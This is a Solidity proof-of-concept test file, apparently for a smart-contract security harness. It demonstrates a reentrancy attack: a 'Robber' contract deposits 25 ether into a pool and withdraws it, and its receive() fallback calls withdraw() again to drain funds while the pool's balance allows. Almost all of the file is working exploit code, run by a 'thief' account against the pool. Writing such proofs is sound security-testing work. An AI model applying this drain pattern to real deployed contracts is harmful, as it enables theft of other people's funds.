// SPDX-License-Identifier: UNLICENSED
pragma solidity ^0.8.17;

import {LossTest} from "primacy/LossTest.sol";
import {Setup, vm} from "./Setup.sol";

contract Robber {
    function rob(address pool) external payable {
        IPool(pool).deposit{value: msg.value}();
        IPool(pool).withdraw();
    }

    receive() external payable {
        if (msg.sender.balance >= 25 ether) IPool(msg.sender).withdraw();
    }
}

interface IPool {
    function deposit() external payable;
    function withdraw() external;
}

contract Proof is LossTest, Setup {
    function setUp() public {
        deploy();
    }

    function fundsToken() internal pure override returns (address) {
        return address(0);
    }

    function fundsHolders() internal view override returns (address[] memory holders) {
        holders = new address[](1);
        holders[0] = address(pool);
    }

    function attack() internal override {
        Robber robber = new Robber();
        vm.prank(thief);
        robber.rob{value: 25 ether}(address(pool));
    }
}
